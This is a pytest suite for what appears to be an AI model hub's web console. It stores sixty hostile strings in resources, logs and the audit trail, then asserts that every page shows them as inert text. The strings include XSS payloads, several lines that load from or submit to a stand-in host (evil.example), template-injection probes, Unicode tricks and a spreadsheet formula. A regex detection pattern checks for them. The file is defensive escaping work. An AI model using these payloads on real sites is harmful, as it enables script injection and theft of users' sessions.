"""Sixty texts that would do harm as markup, in everything that is stored: each page shows them as text."""

import re

import pytest

HOSTILE = [
    # Elements that run or load something.
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data=data:text/html,x></object>", "<embed src=//evil.example>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<template><script>alert(1)</script></template>",
    "<x hx-get=/admin/secrets hx-trigger=load>", "<x data-copy=stolen data-confirm=yes>", "<dialog open>Sign in again</dialog>",
    # Ways out of where a text stands.
    "\"><svg onload=alert(1)>", "'><b>x</b>", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</pre><b>x</b>",
    "</option></select><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!-- x", "--><b>x</b>",
    "]]><b>x</b>", "<![CDATA[<b>x</b>]]>", "<?xml version='1.0'?>", "<%= 7*7 %>", "`${alert(1)}`",
    # Languages of templates, and escapes that are undone once too often.
    "{{7*7}}", "{% for x in y %}", "{# x #}", "${7*7}", "#{7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;x", "%3Cscript%3E", "\\u003cscript\\u003e",
    # What is seen but not there, and there but not seen.
    "\u202eevil\u202c", "a\u2028b\u2029c", "zero\u200bwidth\ufeff", "\U000e0041\U000e0042 tags", "Z\u0351\u0352\u0353a\u0354l\u0355g\u0356o",
    # Forms of addresses, formulas of spreadsheets, and a word that no line can hold.
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "=HYPERLINK(\"//evil.example\")", "W" * 190,
]  # fmt: skip
_TITLE = 200  # what a title holds
# Markup of ours in a page: none of the hostile elements is among it.
ALIVE = re.compile(
    r"<script(?![^>]*\bsrc=\"/static/)|<img\b(?![^>]*\bsrc=\"/static/)|<svg on|<iframe|<object|<embed|<video|<audio src|<body on|<math"
    r"|<input autofocus on|<details open ont|<marquee|<a href=javascript|<form action=/|<base|<meta http-equiv=refresh|<link rel=stylesheet"
    r"|<style|<x |<dialog open>S|<b>x</b>|<svg><",
    re.IGNORECASE,
)

pytestmark = pytest.mark.slow


def test_there_are_sixty():
    assert len(set(HOSTILE)) >= 60


def parts(limit):
    """The texts, in as few pieces of at most `limit` characters as they need."""
    found = [""]
    for text in HOSTILE:
        if len(found[-1]) + len(text) + 1 > limit:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip()
    return found


def specs(title, text):
    """A resource of each kind that holds texts of people, with these in it."""
    yield "teams", {"title": title, "description": text}
    yield "models", {"title": title, "description": text, "targets": [{"model": "demo/x"}]}
    yield "servers", {"builtin": "hub", "title": title, "note": text, "description": text}
    whoami = {"describe": {"whoami": text}, "rename": {"whoami": "who"}}
    yield "profiles", {"title": title, "description": text, "instructions": text, "servers": {"hub": whoami}}
    yield "keys", {"team": "platform", "title": title}
    yield "users", {"title": title, "teams": {"platform": "viewer"}}
    yield "announcements", {"title": title, "body": text, "severity": "critical"}
    yield "guardrails", {"scope": {"org": True}, "on": ["input"], "words": [text[:200]], "title": title}
    yield "routes", {"title": title, "targets": [{"model": "demo/x"}]}
    yield "providers", {"title": title, "kind": "demo"}


@pytest.fixture(scope="module")
def hostile(world):
    """The pages that show them: of every kind, of the logs, of the audit trail."""
    titles, text = parts(_TITLE), " ".join(HOSTILE)
    assert len(text) <= 4096
    pages, made = {"/console", "/console/models", "/console/profiles", "/admin", "/admin/audit", "/admin/stops"}, []
    with world.hub.client() as operator:
        for number, title in enumerate(titles):
            for kind, spec in specs(title, text):
                name = f"hostile-{number}"
                answer = operator.put(f"/api/v1/{kind}/{name}", json={"spec": spec})
                assert answer.status_code in (200, 201), answer.text
                made.append(f"/api/v1/{kind}/{name}")
                pages.add(f"/admin/{kind}")
                if number == 0 or kind == "teams":
                    pages |= {f"/admin/{kind}/{name}{view}" for view in ("", "?view=yaml", "?view=history")}
        for text_of_one in HOSTILE:
            operator.post(
                "/v1/chat/completions",
                json={"model": text_of_one, "messages": [{"role": "user", "content": text_of_one}]},
                headers={
                    "user-agent": text_of_one.encode("ascii", "ignore").strip() or b"-",
                    "x-hub-session": "hostile",
                },
            )
        operator.post("/api/v1/stop", json={"scope": {"team": "hostile-0"}, "reason": text[:500]})
        world.wait_for_calls(50, session="hostile")
        entry = operator.get("/api/v1/logs", params={"session": "hostile"}).json()["items"][0]["id"]
        pages |= {
            "/admin/logs?session=hostile",
            f"/admin/logs/{entry}",
            "/admin/sessions/hostile",
            "/admin/usage?by=model",
        }
        pages |= {"/console/profiles/hostile-0", "/console/profiles/hostile-0/tools/who", "/install/hostile-0"}
        pages |= {
            "/admin/compose/hostile-0",
            "/admin/approvals/hostile-0",
            "/admin/try/hostile-0",
            "/console/playground?profile=hostile-0",
        }
        yield sorted(pages)
        operator.post("/api/v1/resume", json={"scope": {"team": "hostile-0"}})
        for path in made:
            assert operator.delete(path).status_code == 200, path


def test_stored_text_is_shown_as_text(world, hostile):
    with world.signed_in("admin") as client:
        for path in hostile:
            answer = client.get(path)
            assert answer.status_code == 200, (path, answer.text[:300])
            alive = ALIVE.search(answer.text)
            assert alive is None, (path, answer.text[max(0, alive.start() - 200) : alive.end() + 200])


def test_asked_text_is_shown_as_text(world):
    with world.signed_in("admin") as client:
        for text in HOSTILE:
            for path in ("/admin/logs", "/admin/audit", "/admin/teams", "/console/models", "/admin/usage"):
                given = {"q": text, "model": text, "actor": text, "tag": text, "by": text}
                answer = client.get(path, params=given)
                assert answer.status_code in (200, 400), (path, text)
                assert ALIVE.search(answer.text) is None, (path, text)


def test_no_page_breaks_in_a_narrow_window(world, hostile, browse):
    page = browse("admin", "/console")
    page.set_viewport_size({"width": 360, "height": 800})
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    wide = []
    for path in hostile:
        page.goto(world.url + path)
        if page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"):
            wide.append(path)
    assert dialogs == []
    assert wide == []
